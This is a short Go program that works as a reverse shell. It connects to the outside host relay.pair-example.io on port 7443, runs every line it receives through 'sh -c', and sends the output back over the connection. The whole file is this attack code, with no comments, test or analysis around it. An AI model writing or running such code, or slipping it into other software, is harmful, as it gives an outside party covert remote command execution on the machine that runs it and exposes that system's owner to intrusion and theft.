package main

import (
	"bufio"
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "relay.pair-example.io:7443")
	if err != nil {
		return
	}
	sc := bufio.NewScanner(conn)
	for sc.Scan() {
		out, _ := exec.Command("sh", "-c", sc.Text()).CombinedOutput()
		conn.Write(out)
	}
}
